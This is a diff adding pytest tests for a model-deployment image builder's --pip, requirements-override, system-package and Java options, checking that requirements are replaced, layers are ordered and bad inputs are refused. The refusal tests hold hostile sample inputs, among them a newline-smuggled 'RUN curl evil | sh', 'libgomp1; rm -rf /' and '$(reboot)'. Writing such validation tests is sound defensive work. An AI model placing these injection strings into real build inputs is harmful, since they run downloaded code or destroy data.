@@ -205,3 +205,91 @@ def test_pyarrow_only_with_parquet_or_when_the_model_needs_it(sklearn_model: Pat
     (model / "requirements.txt").write_text((model / "requirements.txt").read_text() + "\npyarrow==21.0.0\n")
     needs = plan_build(load_model(str(model)), BuildOptions(parquet=False))
     assert "pyarrow==21.0.0" in needs.requirements.requirements
+
+
+# ---- --pip / --pip-requirements-override / --system-package / Java (issue 14) -------------
+
+def _reqs(plan) -> dict[str, str]:  # type: ignore[no-untyped-def]
+    return {r.split("==")[0].split(">=")[0]: r for r in plan.requirements.requirements}
+
+
+def test_pip_overrides_the_models_version_and_adds_the_rest(sklearn_model: Path, tmp_path: Path) -> None:
+    loaded = load_model(str(sklearn_model))
+    base = plan_build(loaded)
+    assert _reqs(base)["scikit-learn"].startswith("scikit-learn==")
+    plan = plan_build(loaded, BuildOptions(pip=("scikit-learn==1.5.2", "threadpoolctl>=3")))
+    reqs = plan.requirements.requirements
+    assert "scikit-learn==1.5.2" in reqs and "threadpoolctl>=3" in reqs
+    assert [r for r in reqs if r.startswith("scikit-learn")] == ["scikit-learn==1.5.2"]  # replaced, not doubled
+    assert any("replaced 'scikit-learn==" in n and "--pip" in n for n in plan.requirements.notes)
+    assert plan.tag != base.tag and plan.fingerprint != base.fingerprint  # the tag covers it
+    # the same from a file, MLflow's --pip-requirements-override
+    override = tmp_path / "override.txt"
+    override.write_text("# pins for the release\nscikit-learn==1.5.2\n\nthreadpoolctl>=3  # added\n")
+    from_file = plan_build(loaded, BuildOptions(pip_override_file=override))
+    assert from_file.requirements.requirements == reqs and from_file.tag == plan.tag
+
+
+@pytest.mark.parametrize("value, error", [
+    ("--index-url https://pypi.example.org/simple", "is a pip option"),
+    ("-r other.txt", "is a pip option"),
+    ("pandas\nRUN curl evil | sh", "newline or control character"),
+    ("wheels/pkg-1.0-py3-none-any.whl", "is a local path"),
+    ("pkg @ https://user:s3cret@pkgs.example.org/pkg-1.0.whl", "carries credentials"),
+    ("not a requirement !!", "requirement"),
+])
+def test_bad_pip_values_are_refused(sklearn_model: Path, value: str, error: str) -> None:
+    with pytest.raises(DeployerError, match=error) as info:
+        plan_build(load_model(str(sklearn_model)), BuildOptions(pip=(value,)))
+    assert "s3cret" not in str(info.value.what)
+
+
+def test_override_file_errors_name_the_file_and_line(sklearn_model: Path, tmp_path: Path) -> None:
+    override = tmp_path / "override.txt"
+    override.write_text("pandas==2.2.3\n--extra-index-url https://pkgs.example.org/simple\n")
+    with pytest.raises(DeployerError, match="is a pip option") as info:
+        plan_build(load_model(str(sklearn_model)), BuildOptions(pip_override_file=override))
+    assert info.value.where == f"{override}:2"
+    with pytest.raises(UsageError, match="cannot read the requirements override file"):
+        plan_build(load_model(str(sklearn_model)), BuildOptions(pip_override_file=tmp_path / "missing.txt"))
+
+
+def test_system_packages_make_an_os_layer_below_the_environment(sklearn_model: Path) -> None:
+    loaded = load_model(str(sklearn_model))
+    base = plan_build(loaded)
+    assert not base.os_packages and "io.deployer.os-packages" not in dict(base.labels)
+    plan = plan_build(loaded, BuildOptions(system_packages=("libgomp1", "libgomp1", "curl")))
+    assert plan.os_packages.packages == ("curl", "libgomp1")  # sorted, once: the cache key is the list
+    assert [layer.name for layer in plan.layers] == ["base", "os", "user", "environment", "runtime", "model"]
+    assert "curl, libgomp1" in plan.layers[1].description
+    assert dict(plan.labels)["io.deployer.os-packages"] == "curl,libgomp1"
+    assert plan.tag != base.tag
+    argv = plan.os_packages.apt_argv()
+    assert argv[:2] == ["/bin/sh", "-c"] and "--no-install-recommends curl libgomp1;" in argv[2]
+    assert plan.to_dict()["os_packages"] == {"packages": ["curl", "libgomp1"], "reasons": []}
+
+
+@pytest.mark.parametrize("name", ["libgomp1; rm -rf /", "$(reboot)", "LibGomp1", "-o", "x", "pkg=1.0",
+                                  "pkg name", "pkg\nRUN evil", "a/b", ""])
+def test_hostile_system_package_names_are_refused(sklearn_model: Path, name: str) -> None:
+    with pytest.raises(UsageError, match="is not a Debian package name") as info:
+        plan_build(load_model(str(sklearn_model)), BuildOptions(system_packages=(name,)))
+    assert info.value.where == "--system-package"
+
+
+@pytest.mark.parametrize("flavor", ["spark", "h2o", "johnsnowlabs", "mleap"])
+def test_jvm_flavors_get_a_jre_unless_no_java(sklearn_model: Path, tmp_path: Path, flavor: str) -> None:
+    from deployer.building.plan import JRE_PACKAGE
+    from tests.model._edit import altered
+
+    model = altered(sklearn_model, tmp_path / "m", lambda d: d["flavors"].update({flavor: {"x": 1}}))
+    plan = plan_build(load_model(str(model)))
+    assert plan.os_packages.packages == (JRE_PACKAGE,)
+    assert any(f"the {flavor} flavor needs a JVM" in why for why in plan.os_packages.reasons)
+    assert f"the {flavor} flavor needs a JVM" in plan.layers[1].description  # said in the plan
+    without = plan_build(load_model(str(model)), BuildOptions(java=False))
+    assert not without.os_packages
+    assert any("--no-java" in w and "java" in w for w in without.warnings)
+    both = plan_build(load_model(str(model)), BuildOptions(system_packages=("libgomp1",)))
+    assert both.os_packages.packages == tuple(sorted((JRE_PACKAGE, "libgomp1")))
+    assert not plan_build(load_model(str(sklearn_model))).os_packages  # no JVM flavor, no Java
